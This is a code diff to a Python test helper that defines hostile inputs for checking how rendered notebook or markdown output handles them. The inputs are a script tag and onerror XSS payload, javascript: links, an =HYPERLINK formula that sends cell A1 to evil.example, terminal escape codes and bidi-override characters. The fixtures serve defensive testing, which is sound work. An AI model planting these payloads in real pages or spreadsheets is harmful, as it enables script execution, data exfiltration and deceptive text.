@@ -1,4 +1,4 @@
-"""Text of a record that tries to run a script where it is shown, and a search for its remains."""
+"""Texts of a record that act where they are shown, and a search for their remains."""
 
 import re
 from html.parser import HTMLParser
@@ -10,6 +10,12 @@ EVIL = (
     "[x](javascript:run())![y](//evil.example/y.png)<b>`<i>` *z* $\\href{javascript:run()}{x}$\n"
     "\n# A heading\n\n[a]: //evil.example"
 )
+SCRIPT = "<script>window.ran = 1</script><img src=x onerror='window.ran = 1'>"
+FORMULA = (
+    '=HYPERLINK("http://evil.example/?"&A1, "click")\x1b[2J\x9b31m\u202egnp\u2066\u200b\u3164\x07'
+)
+TEXTS = {"script": SCRIPT, "markdown": EVIL, "formula": FORMULA}
+RAN = "return window.ran"  # in a browser: what SCRIPT did
 # What generated pages hold; the span shows a sign that would begin mathematics.
 _TAGS = {
     *("h1", "h2", "p", "ul", "li", "em", "strong", "a", "img", "code", "blockquote", "span"),
@@ -57,6 +63,12 @@ def shown(html: str) -> str:
 def formulas(html: str) -> list[str]:
     """Return the texts that JupyterLab shows as mathematics: it reads each element by itself."""
     return [one for one in _searched(html).text if re.search(r"\$.*\$|\\[a-z(\[]", one)]
+
+
+def unseen(text: str) -> list[str]:
+    """Return the characters of a text that are not seen where it is shown."""
+    seen = "\n\t\N{NO-BREAK SPACE}"
+    return [one for one in text if one not in seen and (not one.isprintable() or one == "\u3164")]
 
 
 def _searched(html: str, *others: str) -> _Search:
